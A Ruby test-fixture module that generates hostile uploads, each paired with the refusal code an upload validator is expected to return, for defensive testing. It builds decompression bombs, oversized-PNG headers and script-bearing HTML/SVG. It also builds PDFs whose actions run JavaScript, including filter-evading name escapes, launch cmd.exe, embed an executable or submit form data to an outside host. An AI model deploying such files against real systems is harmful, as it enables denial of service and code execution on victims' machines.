# frozen_string_literal: true

require "prawn"
require "zlib"

# Files as somebody would send them who means no good, made here: PNG by ISO/IEC 15948, PDF by ISO 32000-1.
module EvilFiles
  module_function

  def chunk(type, data) = [data.bytesize].pack("N") + type + data + [Zlib.crc32(type + data)].pack("N")

  # colour - 2 for RGB, 6 with transparency
  def png(width, height, colour: 2, row: nil, rows: height)
    row ||= "\0#{"\x80" * (width * (colour == 6 ? 4 : 3))}".b
    "\x89PNG\r\n\x1a\n".b + chunk("IHDR", [width, height, 8, colour, 0, 0, 0].pack("NNC5")) +
      chunk("IDAT", Zlib.deflate(row * rows, 9)) + chunk("IEND", "")
  end

  def plain_pdf(pages: 1) =
    Prawn::Document.new { pages.times { |i| i.zero? ? text("A paper") : start_new_page } }.render

  # objects - bodies by number; the first is the catalog
  def pdf(*objects)
    body = "%PDF-1.7\n".b
    places =
      objects.each_with_index.map do |object, i|
        body.bytesize.tap { body << "#{i + 1} 0 obj\n#{object}\nendobj\n".b }
      end
    start = body.bytesize
    body << "xref\n0 #{objects.length + 1}\n0000000000 65535 f \n"
    places.each { |place| body << format("%010d 00000 n \n", place) }
    body << "trailer\n<< /Size #{objects.length + 1} /Root 1 0 R >>\nstartxref\n#{start}\n%%EOF\n"
  end

  # One empty page, with more in its catalog and more objects behind it.
  def page_pdf(catalog = "", *more, page: "", kids: "[3 0 R]", count: 1) =
    pdf(
      "<< /Type /Catalog /Pages 2 0 R #{catalog} >>",
      "<< /Type /Pages /Kids #{kids} /Count #{count} >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] #{page} >>",
      *more
    )

  def stream(dictionary, data) = "<< #{dictionary} /Length #{data.bytesize} >>\nstream\n#{data}\nendstream"

  # Packed over and over: what unpacks it all unpacks gigabytes.
  def packed(times, megabytes = 50)
    data = "\0" * (megabytes * 1024 * 1024)
    times.times { data = Zlib.deflate(data, 9) }
    stream("/Filter [#{"/FlateDecode " * times}]", data)
  end

  # Each by what it is, with the code that it is refused by, or nil where it is taken and made harmless.
  # rubocop:disable-next Metrics/MethodLength -- a table
  def all
    {
      "no file at all" => ["", "not_a_picture"],
      "a page of HTML" => ["<!doctype html><script>alert(1)</script>", "not_a_picture"],
      "a drawing with a script" => [
        "<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>",
        "not_a_picture"
      ],
      "a program" => ["\x7FELF#{"\0" * 60}".b, "not_a_picture"],
      "a ZIP" => ["PK\x03\x04#{"\0" * 40}".b, "not_a_picture"],
      "a GIF" => ["GIF89a\x01\0\x01\0\0\0\0;".b, "not_a_picture"],
      "the head of a JPEG" => ["\xFF\xD8\xFF\xE0\0\x10JFIF\0".b + ("x" * 40), "picture_damaged"],
      "a cut PNG" => [png(200, 200)[0, 60], "picture_damaged"],
      "a PNG of nothing" => [png(0, 0, row: ""), "picture_damaged"],
      "a PNG that says it is huge" => [png(65_000, 65_000, row: "\0", rows: 1), "too_many_pixels"],
      "a PNG that is huge" => [png(12_000, 12_000), "too_many_pixels"],
      "a PNG as wide as it can be" => [png(2_000_000_000, 1, row: "\0"), "picture_damaged"],
      "a small PNG of many dots, transparent" => [png(3000, 3000, colour: 6), nil],
      "a PNG with a page behind it" => ["#{png(4, 4)}<script>alert(1)</script>", nil],
      "the head of a WebP" => ["RIFF\x24\0\0\0WEBPVP8 ".b + ("\0" * 20), "picture_damaged"],
      "the head of a HEIC" => ["\0\0\0\x18ftypheic\0\0\0\0mif1heic".b + ("\0" * 20), "picture_damaged"],
      "the head of a PDF" => ["%PDF-1.7\n", "pdf_damaged"],
      "a PDF without pages" => [pdf("<< /Type /Catalog >>"), "pdf_damaged"],
      "a PDF whose pages go round" => [
        pdf("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"),
        "pdf_damaged"
      ],
      "a PDF that runs a script when it opens" => [
        page_pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "pdf_unwanted"
      ],
      "a PDF whose script is written in other letters" => [
        page_pdf("/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        "pdf_unwanted"
      ],
      "a PDF with a script at a page" => [
        page_pdf("", page: "/AA << /O << /S /JavaScript /JS (x) >> >>"),
        "pdf_unwanted"
      ],
      "a PDF with a file in it" => [
        page_pdf("/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>", "<< /Type /Filespec /F (a.exe) >>"),
        "pdf_unwanted"
      ],
      "a PDF that starts a program" => [
        page_pdf("", page: "/AA << /O << /S /Launch /F (cmd.exe) >> >>"),
        "pdf_unwanted"
      ],
      "a PDF that sends what is typed" => [
        page_pdf("/OpenAction << /S /SubmitForm /F (http://elsewhere.example) >>"),
        "pdf_unwanted"
      ],
      "a PDF with a form of another kind" => [page_pdf("/AcroForm << /XFA [] >>"), "pdf_unwanted"],
      "a PDF with a password" => [
        Prawn::Document.new { text "x" }.tap { |d| d.encrypt_document(user_password: "a") }.render,
        "pdf_locked"
      ],
      "a PDF of 201 pages" => [plain_pdf(pages: 201), "too_many_pages"],
      "a PDF that says it has a million pages" => [page_pdf(count: 1_000_000), "too_many_pages"],
      "a PDF packed four times" => [page_pdf("", packed(4), page: "/Contents 4 0 R"), nil],
      "a PDF nested deeply" => [page_pdf("/A #{"[" * 5000}#{"]" * 5000}"), "pdf_damaged"]
    }
  end
end
